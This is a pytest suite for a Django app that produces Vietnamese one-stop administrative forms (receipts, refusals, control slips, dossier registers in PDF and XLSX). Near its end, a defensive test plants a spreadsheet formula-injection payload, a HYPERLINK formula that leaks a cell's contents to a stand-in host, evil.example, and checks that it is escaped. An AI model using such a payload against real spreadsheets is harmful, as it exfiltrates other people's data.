"""The seven forms of Circular 03/2025/TT-VPCP (onestop.documents.forms): what each prints, form 06's
hand-over rule (a local convention, ON_TIME_WINDOW) and form 07's period."""

import datetime as dt
import io
import unicodedata
from types import SimpleNamespace

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from onestop.documents.forms import (
    ON_TIME_WINDOW,
    form01_receipt_pdf,
    form02_supplement_pdf,
    form03_refusal_pdf,
    form04_apology_pdf,
    form05_stop_pdf,
    form06_control_slip_pdf,
    form07_register_pdf,
    form07_register_xlsx,
    handover_rows,
    register_dossiers,
    timeliness,
)
from onestop.models import Dossier, DossierChannel, DossierDocument, DossierEvent, DossierStatus, StoredFile
from procedures.models import Agency, AgencyKind, Procedure
from procedures.services import procedures_import
from tests.factories import UserFactory
from tests.procedures.records import record

pytestmark = pytest.mark.django_db

CODE = "000.20.01.H12-261128-0001"
VN = dt.timezone(dt.timedelta(hours=7))


def vn(day, month, hour, minute=0, year=2026):
    """A Vietnam wall-clock time, as an aware datetime."""
    return dt.datetime(year, month, day, hour, minute, tzinfo=VN)


RECEIVED_AT = vn(30, 11, 8, 15)  # Monday
DUE_AT = vn(3, 12, 8, 15)  # 03 working days later
EXTENDED_DUE_AT = vn(4, 12, 17, 0)


@pytest.fixture
def world(citizen, settings):
    settings.PROVINCE_NAME = "Thành phố Hồ Chí Minh"
    settings.SITE_URL = "https://dichvucong.hochiminhcity.gov.vn"
    report = procedures_import(records=[record()])
    assert not report.rejected, report.rejected
    procedure = Procedure.objects.get(code="1.001193")
    province = Agency.objects.create(
        code="000.00.00.H12", name="Ủy ban nhân dân Thành phố Hồ Chí Minh", short_name="UBND Thành phố Hồ Chí Minh",
        kind=AgencyKind.PROVINCE,
    )  # fmt: skip
    centre = procedure.receiving_agency
    centre.name, centre.parent = "Trung tâm Phục vụ hành chính công Thành phố", province
    centre.address, centre.phone = "Tầng 1, Tháp A, Trung tâm Hành chính tập trung", "0274 3822 000"
    centre.save()
    justice = Agency.objects.create(code="000.00.14.H12", name="Sở Tư pháp", parent=province)
    people = {
        "receptionist": UserFactory(full_name="Lê Thị Cúc"),
        "specialist": UserFactory(full_name="Phạm Văn Dũng"),
        "approver": UserFactory(full_name="Hoàng Thị Em"),
    }
    return SimpleNamespace(procedure=procedure, centre=centre, justice=justice, citizen=citizen, **people)


def make_dossier(world, *, code=CODE, received_at=RECEIVED_AT, name="Nguyễn Văn An", **fields):
    values = {
        "code": code,
        "procedure": world.procedure,
        "agency": world.centre,
        "applicant": world.citizen,
        "status": DossierStatus.RECEIVED,
        "channel": DossierChannel.ONLINE,
        "applicant_name": name,
        "applicant_id_number": "074090001234",
        "applicant_phone": "0912345678",
        "applicant_email": "an@example.vn",
        "applicant_address": "Số 12 đường Yersin, phường Thủ Dầu Một, Thành phố Hồ Chí Minh",
        "delivery_method": "post",
        "delivery_address": "Số 5 đường Bạch Đằng, phường Thủ Dầu Một",
        "declaration_accepted": True,
        "snapshot": {
            "procedure": {"code": "1.001193", "name": "Đăng ký kết hôn", "sector": "Hộ tịch"},
            "documents": [
                {"code": "GT01", "name": "Tờ khai đăng ký kết hôn", "kind": "original", "originals": 1, "copies": 0},
                {"code": "GT02", "name": "Giấy xác nhận tình trạng hôn nhân", "kind": "certified_copy"},
            ],
            "fees": [
                {"code": "LP01", "name": "Lệ phí quầy", "amount": 45000, "basis": "per_dossier", "channel": 1},
                {
                    "code": "LP01",
                    "name": "Lệ phí đăng ký kết hôn",
                    "amount": 30000,
                    "basis": "per_dossier",
                    "channel": 2,
                },
            ],
            "times": [
                {"channel": 1, "amount": "5", "unit": "working_days"},
                {"channel": 2, "amount": "3.0", "unit": "working_days"},
            ],
        },
        "submitted_at": vn(28, 11, 14, 5),
        "check_due_at": vn(30, 11, 9, 5),
        "received_at": received_at,
        "due_at": DUE_AT,
    }
    values.update(fields)
    return Dossier.objects.create(**values)


@pytest.fixture
def dossier(world):
    dossier = make_dossier(world)
    for code, name, filename in [
        ("GT02", "Giấy xác nhận tình trạng hôn nhân", "xac-nhan-hon-nhan.pdf"),
        ("GT01", "Tờ khai đăng ký kết hôn", "tờ-khai-kết-hôn.pdf"),
        ("GT01", "Tờ khai đăng ký kết hôn", "to-khai-trang-2.jpg"),
    ]:
        stored = StoredFile.objects.create(
            owner=world.citizen, storage_name=f"{code}-{filename}", original_name=filename,
            content_type="application/pdf", size=1000, sha256="0" * 64,
        )  # fmt: skip
        DossierDocument.objects.create(dossier=dossier, requirement_code=code, requirement_name=name, file=stored)
    return dossier


def _text(pdf: bytes) -> str:
    from pypdf import PdfReader

    assert pdf.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(pdf))
    text = "\n".join(page.extract_text() for page in reader.pages)
    return " ".join(unicodedata.normalize("NFC", text).split())


def _position(pdf: bytes, needle: str) -> tuple[float, float]:
    """Where on the first page a line starting with `needle` is drawn (x, y from the bottom left)."""
    from pypdf import PdfReader

    found = []

    def visit(text, cm, tm, font, size):
        if unicodedata.normalize("NFC", text).strip().startswith(needle):
            found.append((tm[4] * cm[0] + cm[4], tm[5] * cm[3] + cm[5]))

    PdfReader(io.BytesIO(pdf)).pages[0].extract_text(visitor_text=visit)
    assert found, needle
    return found[0]


def _assert_in(text: str, *expected: str) -> None:
    missing = [e for e in expected if e not in text]
    assert not missing, missing


HEADER = [
    "UBND THÀNH PHỐ HỒ CHÍ MINH",
    "TRUNG TÂM PHỤC VỤ HÀNH CHÍNH CÔNG THÀNH PHỐ",
    "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
]


# ------------------------------------------------------------------------------------------ form 01


def test_form01_receipt_from_the_dossier(dossier, world):
    pdf = form01_receipt_pdf(dossier, received_by=world.receptionist, register_book="03", register_number=125)
    text = _text(pdf)
    _assert_in(
        text, *HEADER, "Mẫu số 01", "GIẤY TIẾP NHẬN HỒ SƠ VÀ HẸN TRẢ KẾT QUẢ",
        "Thành phố Hồ Chí Minh, ngày 30 tháng 11 năm 2026",
        CODE, "Tiếp nhận hồ sơ của: Nguyễn Văn An", "074090001234", "0912345678", "Số 12 đường Yersin",
        "Đăng ký kết hôn", "1.001193",
        # 1. documents, in the procedure's order, with the files received
        "Tờ khai đăng ký kết hôn", "tờ-khai-kết-hôn.pdf", "02 tệp", "Bản chính",
        "Giấy xác nhận tình trạng hôn nhân", "Bản sao có chứng thực",
        "2. Số lượng hồ sơ: 01 bộ",
        "3. Thời gian giải quyết hồ sơ theo quy định: 03 ngày làm việc",  # the online channel's time
        "4. Thời gian nhận hồ sơ: 08 giờ 15 phút, ngày 30 tháng 11 năm 2026",
        "5. Thời gian trả kết quả giải quyết hồ sơ: 08 giờ 15 phút, ngày 03 tháng 12 năm 2026",
        "bưu chính công ích", "Số 5 đường Bạch Đằng", "Lệ phí đăng ký kết hôn", "30.000 đồng",
        "Vào Sổ theo dõi hồ sơ, Quyển số: 03 Số thứ tự: 125",
        "NGƯỜI NỘP HỒ SƠ", "NGƯỜI TIẾP NHẬN HỒ SƠ", "Lê Thị Cúc",
    )  # fmt: skip
    assert "45.000" not in text  # the counter's fee is not this dossier's
    assert text.index("Tờ khai đăng ký kết hôn") < text.index("Giấy xác nhận tình trạng hôn nhân")
    # as the annex prints it: at the top right, above the national motto
    number_x, number_y = _position(pdf, "Mẫu số 01")
    motto_x, motto_y = _position(pdf, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM")
    assert number_y > motto_y and number_x > motto_x


def test_form01_receipt_with_the_documents_checked_at_the_counter(world):
    dossier = make_dossier(world, channel=DossierChannel.COUNTER, delivery_method="counter")
    documents = [
        {"name": "Tờ khai đăng ký kết hôn", "kind": "original", "quantity": 1},
        {"name": "Căn cước của hai bên", "kind": "bản sao", "quantity": 2},
    ]
    text = _text(form01_receipt_pdf(dossier, received_by="Lê Thị Cúc", documents=documents))
    _assert_in(
        text, "Căn cước của hai bên", "Bản sao", "02 bản", "05 ngày làm việc", "Trực tiếp tại Bộ phận Một cửa",
        "Lệ phí quầy", "45.000 đồng", "Quyển số: ………… Số thứ tự: …………",
    )  # fmt: skip


def test_form01_without_files_or_lines_lists_the_procedures_documents(world):
    text = _text(form01_receipt_pdf(make_dossier(world), received_by="Lê Thị Cúc"))
    _assert_in(text, "1 Tờ khai đăng ký kết hôn Bản chính 01 bản", "Giấy xác nhận tình trạng hôn nhân")


def test_form01_needs_a_received_dossier(world):
    with pytest.raises(ValueError):
        form01_receipt_pdf(make_dossier(world, received_at=None), received_by="Lê Thị Cúc")


# ------------------------------------------------------------------------------------- forms 02–05


def test_form02_supplement(dossier, world):
    items = [
        {"name": "Giấy xác nhận tình trạng hôn nhân", "requirement": "bản chứng thực", "note": "Còn thời hạn 6 tháng"},
        {"name": "Tờ khai đăng ký kết hôn", "requirement": "original", "note": "Có chữ ký của hai bên"},
    ]
    pdf = form02_supplement_pdf(
        dossier, items=items, reason="Hồ sơ thiếu giấy xác nhận tình trạng hôn nhân của bên nữ.",
        officer=world.receptionist, contact="Bộ phận Tiếp nhận, điện thoại 0274 3822 000", at=vn(30, 11, 9),
    )  # fmt: skip
    _assert_in(
        _text(pdf), *HEADER, "Mẫu số 02", "PHIẾU YÊU CẦU BỔ SUNG, HOÀN THIỆN HỒ SƠ",
        "Thành phố Hồ Chí Minh, ngày 30 tháng 11 năm 2026", "Nguyễn Văn An", CODE, "Đăng ký kết hôn",
        "Yêu cầu Ông/Bà hoàn thiện hồ sơ gồm những nội dung như sau:", "Giấy xác nhận tình trạng hôn nhân",
        "Bản chứng thực", "Còn thời hạn 6 tháng", "Bản chính", "Có chữ ký của hai bên",
        "Lý do: Hồ sơ thiếu giấy xác nhận tình trạng hôn nhân của bên nữ.", "điện thoại 0274 3822 000",
        "NGƯỜI HƯỚNG DẪN", "Lê Thị Cúc",
    )  # fmt: skip


def test_form03_refusal_with_reasons_as_text(dossier, world):
    reasons = "- Thủ tục không thuộc thẩm quyền giải quyết của Trung tâm.\n- Người yêu cầu chưa đủ tuổi kết hôn."
    text = _text(form03_refusal_pdf(dossier, reasons=reasons, officer=world.receptionist))
    _assert_in(
        text, *HEADER, "Mẫu số 03", "PHIẾU TỪ CHỐI TIẾP NHẬN GIẢI QUYẾT HỒ SƠ", "Nguyễn Văn An", CODE,
        "không tiếp nhận, giải quyết hồ sơ này", "Thủ tục không thuộc thẩm quyền giải quyết của Trung tâm.",
        "Người yêu cầu chưa đủ tuổi kết hôn.", "Lê Thị Cúc",
    )  # fmt: skip
    with pytest.raises(ValueError):
        form03_refusal_pdf(dossier, reasons=["  ", "-"], officer=world.receptionist)


def test_form04_apology(dossier, world):
    pdf = form04_apology_pdf(
        dossier, reason="Cần xác minh thêm thông tin hộ tịch tại địa phương khác.", old_due_at=DUE_AT,
        new_due_at=EXTENDED_DUE_AT, signer=world.approver, signer_title="Giám đốc", at=vn(1, 12, 10),
    )  # fmt: skip
    _assert_in(
        _text(pdf), *HEADER, "Mẫu số 04", "VĂN BẢN XIN LỖI VÀ ĐỀ NGHỊ GIA HẠN THỜI GIAN GIẢI QUYẾT",
        "Thành phố Hồ Chí Minh, ngày 01 tháng 12 năm 2026", "Kính gửi: Ông/Bà Nguyễn Văn An", "Số 12 đường Yersin",
        "0912345678", "ngày 30 tháng 11 năm 2026", CODE, "Đăng ký kết hôn",
        "08 giờ 15 phút, ngày 03 tháng 12 năm 2026", "Cần xác minh thêm thông tin hộ tịch tại địa phương khác.",
        "xin lỗi Ông/Bà", "17 giờ 00 phút, ngày 04 tháng 12 năm 2026", "GIÁM ĐỐC", "Hoàng Thị Em", "Nơi nhận:",
    )  # fmt: skip


def test_form05_stop(dossier, world):
    pdf = form05_stop_pdf(
        dossier, reason="Người yêu cầu đề nghị dừng để bổ sung hồ sơ ly hôn.",
        legal_basis="Khoản 3 Điều 18 Nghị định số 118/2025/NĐ-CP", signer=world.approver, at=vn(2, 12, 10),
    )  # fmt: skip
    _assert_in(
        _text(pdf), *HEADER, "Mẫu số 05", "THÔNG BÁO DỪNG GIẢI QUYẾT HỒ SƠ",
        "Thành phố Hồ Chí Minh, ngày 02 tháng 12 năm 2026",
        "Kính gửi: Ông/Bà Nguyễn Văn An", CODE, "ngày 30 tháng 11 năm 2026",
        "Căn cứ: Khoản 3 Điều 18 Nghị định số 118/2025/NĐ-CP", "Người yêu cầu đề nghị dừng để bổ sung hồ sơ ly hôn.",
        "THỦ TRƯỞNG CƠ QUAN", "Hoàng Thị Em",
    )  # fmt: skip


def test_letters_to_an_organisation(world):
    dossier = make_dossier(
        world, applicant_kind="organisation", organisation_name="Công ty TNHH Xây dựng Hòa Bình",
        organisation_tax_code="3700123456",
    )  # fmt: skip
    text = _text(form05_stop_pdf(dossier, reason="Lý do", legal_basis="Căn cứ", signer="Hoàng Thị Em"))
    _assert_in(text, "Kính gửi: Công ty TNHH Xây dựng Hòa Bình", "Người nộp hồ sơ: Nguyễn Văn An")


# ----------------------------------------------------------------------------------------- form 06


def test_the_handover_rule_is_one_local_constant():
    deadline = vn(3, 12, 8)
    assert dt.timedelta(hours=1) == ON_TIME_WINDOW
    assert timeliness(deadline - dt.timedelta(hours=3), deadline) == "Trước hạn"
    assert timeliness(deadline - ON_TIME_WINDOW, deadline) == "Trước hạn"  # a full hour ahead
    assert timeliness(deadline - dt.timedelta(minutes=59), deadline) == "Đúng hạn"
    assert timeliness(deadline, deadline) == "Đúng hạn"
    assert timeliness(deadline + dt.timedelta(minutes=1), deadline) == "Quá hạn"
    assert timeliness(deadline, None) == ""


def _event(action, at, *, actor=None, data=None, note="", deadline=None):
    return SimpleNamespace(action=action, created_at=at, actor=actor, data=data or {}, note=note, deadline=deadline)


def test_handover_rows_from_plain_events():
    cuc, dung = SimpleNamespace(full_name="Lê Thị Cúc"), SimpleNamespace(full_name="Phạm Văn Dũng")
    events = [
        _event("submit", vn(28, 11, 14)),  # not a hand-over
        _event("receive", vn(30, 11, 8, 15), actor=cuc, data={"check_due_at": "2026-11-30T09:05:00+07:00"}),
        # no names in the data: the actor, then the unit the dossier was in
        _event("forward", vn(30, 11, 9), actor=cuc, data={"step_due_at": "2026-11-30T12:15:00+07:00"}),
        _event("assign", vn(30, 11, 9, 30), data={"assignee": "Phạm Văn Dũng"}),
        _event("request_supplement", vn(30, 11, 10), actor=dung),
        # no step deadline: the dossier's appointment recorded on the event
        _event("resolve", vn(3, 12, 10), actor=dung, deadline=vn(3, 12, 8, 15)),
        _event("return_result", vn(3, 12, 15), actor=cuc, data={"method": "counter"}, deadline=vn(4, 12, 17)),
    ]
    rows = handover_rows(
        reversed(events), receiving_agency="Trung tâm", step_agency="Sở Tư pháp", applicant_name="Nguyễn Văn An"
    )
    assert [r.action for r in rows] == ["receive", "forward", "resolve", "return_result"]
    assert [r.result for r in rows] == ["Đúng hạn", "Trước hạn", "Quá hạn", "Trước hạn"]
    receive, forward, resolve, returned = rows
    assert (receive.from_user, receive.to_agency, receive.to_user) == ("Nguyễn Văn An", "Trung tâm", "Lê Thị Cúc")
    assert (forward.from_agency, forward.from_user, forward.to_user) == ("Trung tâm", "Lê Thị Cúc", "Phạm Văn Dũng")
    assert forward.deadline == vn(30, 11, 12, 15)
    assert "Yêu cầu bổ sung hồ sơ (Mẫu số 02) (30/11/2026)" in forward.note
    assert (resolve.to_agency, resolve.to_user) == ("Trung tâm", "Lê Thị Cúc")  # back to the desk
    assert (returned.to_user, returned.note) == ("Nguyễn Văn An", "Trả tại quầy")


def test_handover_rows_without_any_deadline_are_not_judged():
    rows = handover_rows([_event("forward", vn(30, 11, 9), data={"from_agency": "A", "to_agency": "B"})])
    assert rows[0].result == "" and rows[0].deadline is None


@pytest.fixture
def history(dossier, world):
    """receive → forward → send_back → forward → (extend) → resolve (late) → return_result, between the
    centre and the Department of Justice, as the back-office services record them."""
    centre, justice = world.centre.name, world.justice.name

    def handover(frm, to, who, due):
        return {"from_agency": frm, "to_agency": to, "from_user": who.full_name, "step_due_at": due.isoformat()}

    cuc = world.receptionist
    steps = [
        ("receive", RECEIVED_AT, cuc, {"form": "01", "to_agency": centre}, "", DUE_AT),
        ("forward", vn(30, 11, 9), cuc, handover(centre, justice, cuc, vn(30, 11, 12, 15)), "", DUE_AT),
        ("assign", vn(30, 11, 9, 30), world.approver, {"assignee": world.specialist.full_name}, "", DUE_AT),
        ("send_back", vn(1, 12, 10), world.specialist, handover(justice, centre, world.specialist, vn(1, 12, 10, 30)),
         "Thiếu bản sao giấy tờ tùy thân", DUE_AT),
        ("forward", vn(1, 12, 14), cuc, handover(centre, justice, cuc, vn(1, 12, 16)), "Đã bổ sung", DUE_AT),
        ("extend", vn(2, 12, 9), world.approver, {"form": "04"}, "Cần xác minh", EXTENDED_DUE_AT),
        ("resolve", vn(3, 12, 10), world.approver, handover(justice, centre, world.approver, vn(3, 12, 8, 15)),
         "", EXTENDED_DUE_AT),
        ("return_result", vn(3, 12, 15), cuc,
         {"method": "counter", "recipient_name": "Nguyễn Văn An", "recipient_id_number": "074090001234"}, "",
         EXTENDED_DUE_AT),
    ]  # fmt: skip
    for action, at, actor, data, note, deadline in steps:
        event = DossierEvent.objects.create(
            dossier=dossier, actor=actor, action=action, to_status="processing", data=data, note=note,
            deadline=deadline,
        )  # fmt: skip
        DossierEvent.objects.filter(pk=event.pk).update(created_at=at)
    Dossier.objects.filter(pk=dossier.pk).update(
        status=DossierStatus.RETURNED, due_at=EXTENDED_DUE_AT, step_agency=world.centre
    )
    return Dossier.objects.select_related("agency__parent", "step_agency", "procedure").get(pk=dossier.pk)


def test_form06_rows_from_the_event_history(history):
    rows = handover_rows(
        history.events.select_related("actor"), receiving_agency=history.agency.name, applicant_name="Nguyễn Văn An"
    )
    assert [(r.action, r.result) for r in rows] == [
        ("receive", ""),  # the reception sets the appointment; no check deadline given
        ("forward", "Trước hạn"),  # 3 h 15 before the intake step's deadline
        ("send_back", "Đúng hạn"),  # 30 min before
        ("forward", "Trước hạn"),
        ("resolve", "Quá hạn"),  # 1 h 45 after the approval step's deadline
        ("return_result", "Trước hạn"),  # before the extended appointment
    ]
    judged = handover_rows(history.events.all(), check_due_at=history.check_due_at)
    assert judged[0].result == "Đúng hạn"  # 50 min before the 8 working hours of the check ran out
    assert rows[1].to_user == "Phạm Văn Dũng"  # assigned in the department
    assert rows[2].to_user == "Lê Thị Cúc"  # who forwarded it again
    assert "Cần xác minh" not in rows[3].note and "Gia hạn, xin lỗi (Mẫu số 04)" in rows[3].note


def test_form06_control_slip_pdf(history):
    text = _text(form06_control_slip_pdf(history))
    _assert_in(
        text, *HEADER, "Mẫu số 06", "PHIẾU KIỂM SOÁT QUÁ TRÌNH GIẢI QUYẾT HỒ SƠ", CODE,
        "Kèm theo hồ sơ của: Nguyễn Văn An", "Đăng ký kết hôn", "08 giờ 15 phút, ngày 30 tháng 11 năm 2026",
        "17 giờ 00 phút, ngày 04 tháng 12 năm 2026", "TÊN CƠ QUAN", "THỜI GIAN GIAO, NHẬN HỒ SƠ",
        "KẾT QUẢ GIẢI QUYẾT HỒ SƠ", "GHI CHÚ", "1. Giao: Trung tâm Phục vụ hành chính công", "2. Nhận: Sở Tư pháp",
        "09 giờ 00 phút, ngày 30 tháng 11 năm 2026", "Người giao: Lê Thị Cúc", "Người nhận: Phạm Văn Dũng",
        "Thiếu bản sao giấy tờ tùy thân", "Trả tại quầy",
    )  # fmt: skip
    # one result per hand-over, in order (the header's "(Trước hạn/đúng hạn/quá hạn)" is left out)
    results = [w for w in text.replace("(Trước", "").split() if w in ("Trước", "Đúng", "Quá")]
    assert results == ["Đúng", "Trước", "Đúng", "Trước", "Quá", "Trước"]


def test_form06_with_events_given_runs_no_query(history):
    events = list(history.events.select_related("actor"))
    from onestop.documents.forms.control import form06_context

    with CaptureQueriesContext(connection) as queries:
        form06_context(history, events=events)
    assert len(queries) == 0


# ----------------------------------------------------------------------------------------- form 07


@pytest.fixture
def register(history, world):
    """Three dossiers in November (one returned, one in processing, one stopped), one in December."""
    make_dossier(world, code="000.20.01.H12-261125-0003", received_at=vn(25, 11, 9), name="Trần Thị Bình",
                 status=DossierStatus.PROCESSING)  # fmt: skip
    make_dossier(world, code="000.20.01.H12-261101-0001", received_at=vn(1, 11, 0, 5), name="Võ Minh Châu",
                 status=DossierStatus.STOPPED)  # fmt: skip
    make_dossier(world, code="000.20.01.H12-261201-0007", received_at=vn(1, 12, 7, 45), name="Đặng Quốc Duy")
    make_dossier(world, code="000.20.01.H12-261031-0009", received_at=vn(31, 10, 23, 50), name="Lý Gia Hân")
    return {"agency": world.centre, "date_from": dt.date(2026, 11, 1), "date_to": dt.date(2026, 11, 30)}


def test_form07_register_pdf_lists_the_period_only(register):
    text = _text(form07_register_pdf(**register, dossiers=register_dossiers(**register), book="03"))
    _assert_in(
        text, "UBND THÀNH PHỐ HỒ CHÍ MINH", "Mẫu số 07", "SỔ THEO DÕI HỒ SƠ",
        "Từ ngày 01 tháng 11 năm 2026 đến ngày 30 tháng 11 năm 2026", "Quyển số: 03", "Mã hồ sơ", "Ký nhận",
        "Võ Minh Châu", "Trần Thị Bình", "Nguyễn Văn An", "Dừng giải quyết", "Đang giải quyết",
        "Đã giải quyết, trước hạn", "Sở Tư pháp (30/11/2026)", "08:15 30/11/2026",
    )  # fmt: skip
    _assert_in(text.replace("- ", "-"), "000.20.01.H12-261101-0001", CODE)  # the code may break after a hyphen
    for name in ("Đặng Quốc Duy", "Lý Gia Hân"):  # 1 December and 31 October (Vietnam time)
        assert name not in text
    assert text.index("Võ Minh Châu") < text.index("Trần Thị Bình") < text.index("Nguyễn Văn An")


def test_form07_filters_whatever_dossiers_it_is_given(register):
    text = _text(form07_register_pdf(**register, dossiers=Dossier.objects.all()))
    assert "Nguyễn Văn An" in text and "Đặng Quốc Duy" not in text and "Lý Gia Hân" not in text


def test_form07_register_xlsx(register):
    from openpyxl import load_workbook

    data = form07_register_xlsx(**register, dossiers=register_dossiers(**register))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.page_setup.orientation == "landscape"
    header = next(r for r in range(1, 20) if sheet.cell(row=r, column=1).value == "STT")
    assert [sheet.cell(row=header, column=c).value for c in range(1, 11)] == [
        "STT", "Mã hồ sơ", "Người nộp", "Thủ tục", "Ngày tiếp nhận", "Ngày hẹn trả", "Chuyển xử lý", "Kết quả",
        "Ngày trả", "Ký nhận",
    ]  # fmt: skip
    lines = [[c.value for c in row] for row in sheet.iter_rows(min_row=header + 1) if row[0].value is not None]
    assert [line[1] for line in lines] == [
        "000.20.01.H12-261101-0001", "000.20.01.H12-261125-0003", CODE,
    ]  # fmt: skip
    returned = lines[2]
    assert returned[4] == dt.datetime(2026, 11, 30, 8, 15)  # Vietnam wall-clock time
    assert returned[5] == dt.datetime(2026, 12, 4, 17, 0)
    # the register judges the dossier against its (extended) appointment, not the late approval step
    assert (returned[6], returned[7]) == ("Sở Tư pháp (30/11/2026)", "Đã giải quyết, trước hạn")
    assert returned[8] == dt.datetime(2026, 12, 3, 15, 0) and returned[9] == "Nguyễn Văn An"
    assert "SỔ THEO DÕI HỒ SƠ" in [sheet.cell(row=r, column=1).value for r in range(1, header)]


def test_register_dossiers_loads_what_the_register_reads(register):
    from onestop.documents.forms.register import register_rows

    with CaptureQueriesContext(connection) as queries:
        rows = register_rows(
            date_from=register["date_from"], date_to=register["date_to"], dossiers=register_dossiers(**register)
        )
    assert len(rows) == 3 and len(queries) == 2


def test_form07_xlsx_writes_an_applicants_formula_as_text(register):
    """Security review, attack 6: an applicant named =HYPERLINK(…) became a live formula in the register."""
    import zipfile

    from openpyxl import load_workbook

    evil = '=HYPERLINK("http://evil.example/?leak="&B8,"Xem")'
    Dossier.objects.filter(code="000.20.01.H12-261125-0003").update(applicant_name=evil)
    data = form07_register_xlsx(**register, dossiers=register_dossiers(**register))
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert any(str(c.value).startswith(evil) and c.data_type == "s" for c in cells)
    assert not [c for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_csv_text_neutralises_formulas():
    from procedures.spreadsheet.cells import csv_text

    assert [csv_text(v) for v in ["=1+1", "+84912", "-2", "@SUM(A1)", "\tx", "Nguyễn", None, 15]] == [
        "'=1+1", "'+84912", "'-2", "'@SUM(A1)", "'\tx", "Nguyễn", "", "15",
    ]  # fmt: skip
